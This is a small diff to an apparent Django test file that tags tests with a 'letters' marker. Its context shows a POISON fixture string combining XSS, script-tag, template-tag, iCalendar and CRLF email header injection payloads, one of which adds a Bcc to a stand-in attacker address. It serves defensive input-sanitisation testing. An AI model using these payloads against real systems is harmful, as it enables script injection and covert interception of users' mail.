@@ -30,7 +30,7 @@ from tests.support.campaign import PLAYERS, Campaign, person
 
 from .addresses import PART, Route, patterns, routes, staged
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.letters]
 POISON = (
     "qzx<img src=x onerror=qzx()>\"'\r\nBcc:"
     " qzx@evil.example\r\n\r\nBEGIN:VALARM\r\n<script>qzx()</script>{{ 7|add:7 }}{% now 'Y' %}"
